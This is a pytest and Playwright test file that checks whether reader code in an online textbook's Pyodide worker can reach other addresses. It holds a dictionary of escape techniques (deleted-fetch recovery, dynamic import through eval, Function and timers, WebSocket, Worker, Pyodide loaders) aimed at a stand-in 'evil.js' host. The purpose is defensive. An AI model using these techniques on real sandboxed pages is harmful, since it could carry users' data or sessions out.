"""What a reader's code can reach from the page, in a real Chromium, on hosts with and without headers of their own."""

import shutil

import pytest
from serving import served, served_plainly

pytestmark = pytest.mark.browser

RIGHT = "def heaviside(z):\n    return (z > 0) * 1.0\n"
# Ways out of the worker. Each line is tried by itself; what each address saw is what counts.
WAYS = {
    "the closed fetch, deleted": "js.Reflect.deleteProperty(js.self, 'fetch'); js.fetch(URL)",
    "the prototypes' fetch": "js.WorkerGlobalScope.prototype.fetch.call(js.self, URL)",
    "fetch of any object up the chain": """
o = js.self
while o:
    d = js.Object.getOwnPropertyDescriptor(o, "fetch")
    if d: d.value.call(js.self, URL)
    o = js.Object.getPrototypeOf(o)""",
    "a post": "js.fetch(URL, js.Object.fromEntries(to_js([['method', 'POST'], ['body', 'x']])))",
    "importScripts, deleted": "js.Reflect.deleteProperty(js.self, 'importScripts'); js.importScripts(URL)",
    "import() by the language": "js.Function.new('u', 'return import(u)')(URL)",
    "import() by eval": "run_js(f'import({URL!r})')",
    "import() by Pyodide's own loader": "pyodide_js._api.loadScript(URL)",
    "a package from elsewhere": "pyodide_js.loadPackage(URL)",
    "XMLHttpRequest": "x = js.XMLHttpRequest.new(); x.open('GET', URL, False); x.send()",
    "a socket": "js.WebSocket.new(URL.replace('http', 'ws'))",
    "another worker": "js.Worker.new(URL)",
    "a timer with text": "js.setTimeout(f'import({URL!r})', 0)",
    "constructors": "js.Object.getPrototypeOf(js.eval).constructor(f'return import({URL!r})')()",
}
PROBE = """
import js, pyodide_js
from pyodide.code import run_js
from pyodide.ffi import to_js
tried = []
for way, lines in WAYS.items():
    for number, host in enumerate(HOSTS):
        URL = f"{host}?way={len(tried)}-{number}"
        try:
            exec(lines, {"js": js, "run_js": run_js, "to_js": to_js, "URL": URL, "pyodide_js": pyodide_js})
        except BaseException as error:
            pass
    tried.append(way)
print(len(tried))
"""


@pytest.fixture(scope="module")
def chromium():
    from playwright.sync_api import sync_playwright

    path = shutil.which("chromium") or shutil.which("chromium-browser")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def hosted(site, pyodide):
    """The site on a host of plain files, beside other pages of the same origin; and a host of somebody else's."""
    if pyodide:
        pytest.skip(pyodide)
    with served_plainly(site / "html") as own, served_plainly(site / "html") as other:
        yield own, other


@pytest.fixture
def tab(chromium):
    context = chromium.new_context(service_workers="block")
    context.set_default_timeout(60_000)
    yield context.new_page()
    context.close()


def run(tab, code):
    """What the page's Python says to code in the editor of ``heaviside``."""
    tab.locator('[data-exercise="perceptrons.heaviside"] .cm-content').wait_for()
    return tab.evaluate(
        """code => document.querySelector('[data-exercise="perceptrons.heaviside"]').live.python.run(
            {chapter: "perceptrons", exercise: "heaviside", code, earlier: [], plots: false})""",
        code,
    )


def test_no_way_leads_from_a_readers_code_to_another_address(tab, hosted):
    own, other = hosted
    origin = own.address.removesuffix("book/")
    tab.context.add_cookies([{"name": "session", "value": "secret", "url": origin}])
    tab.goto(own.address + "chapters/perceptrons.html")
    own.asked.clear()
    hosts = [f"{origin}grades.js", f"{other.address.removesuffix('book/')}evil.js"]
    answer = run(tab, f"WAYS = {WAYS!r}\nHOSTS = {hosts!r}\n{PROBE}\n{RIGHT}")
    assert answer["output"].strip() == str(len(WAYS)), answer
    run(tab, RIGHT)
    tab.wait_for_timeout(1500)
    assert [path for _, path, _ in own.asked if "way=" in path] == []
    assert [path for _, path, _ in other.asked if "way=" in path] == []


def test_python_starts_and_draws_on_a_host_without_headers(tab, hosted):
    own, _ = hosted
    complaints = []
    tab.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    tab.goto(own.address + "chapters/perceptrons.html")
    answer = tab.evaluate(
        """code => document.querySelector('[data-exercise="perceptrons.heaviside"]').live.python.run(
            {chapter: "perceptrons", exercise: "heaviside", code, earlier: [], plots: true})""",
        f"plt.plot([1, 3, 2])\n{RIGHT}",
    )
    assert answer["report"]["solved"] and len(answer["figures"]) == 1
    assert complaints == []


def test_every_page_carries_the_policy_before_all_that_it_loads(site):
    for path in [*(site / "html").glob("*.html"), *(site / "html" / "chapters").glob("*.html")]:
        page = path.read_text(encoding="utf-8")
        if "<script" not in page:
            continue  # the first page leads on to the introduction
        assert page.count('http-equiv="Content-Security-Policy"') == 1, path.name
        place = page.index('http-equiv="Content-Security-Policy"')
        loads = [page.find(sign) for sign in ("<script", "<link", "<style")]
        assert place < min(load for load in loads if load >= 0), path.name


def test_no_page_breaks_the_policy_that_it_is_served_with(chromium, site):
    context, complaints = chromium.new_context(), []
    tab = context.new_page()
    tab.on("console", lambda message: complaints.append(message.text) if "Security Policy" in message.text else None)
    with served(site / "html") as url:
        for name in ("index.html", "search.html?q=gradient", "genindex.html", "chapters/optimizers.html"):
            tab.goto(url + name, wait_until="networkidle")
    context.close()
    assert complaints == []
